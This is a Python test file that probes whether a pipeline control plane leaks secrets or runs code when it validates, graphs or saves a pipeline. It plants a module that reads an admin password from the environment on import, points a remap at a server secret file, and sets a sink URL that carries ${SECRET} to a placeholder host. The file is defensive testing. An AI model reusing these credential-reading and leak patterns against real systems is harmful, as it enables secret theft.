"""Issue 17, item 1: validating a pipeline on the control plane runs nothing of it.

Attacks against a real control plane process, as a viewer (who may validate and draw graphs) and as an
admin (who saves pipelines with python stages): ``${SECRET}`` from the server's environment echoed in an
error, a remap ``file:`` pointing at a secret file on the server, a ``python`` stage whose module runs code
when imported. None works.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.control.conftest import ADMIN_PASSWORD

SECRET = "s3cr3t-from-the-control-planes-environment"
FILE_SECRET = "hunter2-on-the-control-planes-disk"


@pytest.fixture
def target(stack: Any, tmp_path: Path) -> dict[str, Any]:
    secret_file = tmp_path / "server-secret.txt"
    secret_file.write_text(f"{FILE_SECRET}\n")
    modules = tmp_path / "mods"
    modules.mkdir()
    marker = tmp_path / "imported-on-the-server"
    (modules / "evil_stage.py").write_text(
        f"import os\nopen({str(marker)!r}, 'w').write(os.environ.get('CONDUIX_CONTROL_ADMIN_PASSWORD', ''))\n"
        "def f(record):\n    return record\n")
    cp = stack.control(extra_env={"SECRET": SECRET})
    return {"cp": cp, "secret_file": secret_file, "modules": modules, "marker": marker}


def as_role(cp: Any, role: str) -> httpx.Client:
    return httpx.Client(base_url=cp.url, timeout=10, headers={"Authorization": f"Bearer {cp.token(role)}"})


def test_validate_and_graph_resolve_no_variable_read_no_file_import_nothing(target: dict[str, Any]) -> None:
    cp, marker = target["cp"], target["marker"]
    pipeline = f"""version: 1
name: probe
sources:
  numbers: {{type: generate, count: "${{SECRET}}"}}
transforms:
  leak: {{type: remap, inputs: [numbers], file: "{target['secret_file']}"}}
  code: {{type: python, inputs: [leak], function: "evil_stage:f", python_path: ["{target['modules']}"]}}
sinks:
  out: {{type: http, inputs: [code], url: "http://example.invalid/${{SECRET}}"}}
"""
    viewer = as_role(cp, "viewer")
    answer = viewer.post("/pipelines/probe/validate", json={"yaml": pipeline})
    assert answer.status_code == 200, answer.text
    assert answer.json()["valid"] is True  # structure, types and DAG are fine; the rest is the agent's business
    assert [n["id"] for n in answer.json()["graph"]["nodes"]] == ["numbers", "leak", "code", "out"]

    # a type error the server would have had to resolve to find stays unknown; a real one is still reported
    broken = viewer.post("/pipelines/probe/validate",
                         json={"yaml": pipeline.replace("type: generate,", "type: generate, rate: fast,")})
    assert [e["path"] for e in broken.json()["errors"]] == ["sources.numbers.rate"]

    admin = as_role(cp, "admin")  # a python stage is the admin's to save (item 4)
    saved = admin.put("/pipelines/probe", json={"yaml": pipeline})
    assert saved.status_code == 201, saved.text
    graph = viewer.get("/pipelines/probe/graph")
    assert graph.status_code == 200 and len(graph.json()["nodes"]) == 4

    for response in (answer, broken, saved, graph, viewer.get("/pipelines/probe")):
        assert SECRET not in response.text and FILE_SECRET not in response.text
    assert not marker.exists(), "the control plane imported a module named by a pipeline"
    assert SECRET not in cp.log() and FILE_SECRET not in cp.log() and ADMIN_PASSWORD not in cp.log()


def test_remap_errors_and_placeholder_syntax_are_still_checked(target: dict[str, Any]) -> None:
    viewer = as_role(target["cp"], "viewer")
    pipeline = """version: 1
name: probe
sources:
  numbers: {type: generate, count: "${SECRET"}
transforms:
  fix: {type: remap, inputs: [numbers], source: ".x = ("}
sinks:
  out: {type: blackhole, inputs: [fix]}
"""
    [error] = viewer.post("/pipelines/probe/validate", json={"yaml": pipeline}).json()["errors"]
    assert (error["path"], error["line"]) == ("sources.numbers.count", 4)
    assert "malformed placeholder" in error["message"] and SECRET not in str(error)
    fixed = pipeline.replace("${SECRET", "${SECRET}")
    [error] = viewer.post("/pipelines/probe/validate", json={"yaml": fixed}).json()["errors"]
    assert (error["path"], error["line"]) == ("transforms.fix", 6) and SECRET not in str(error)
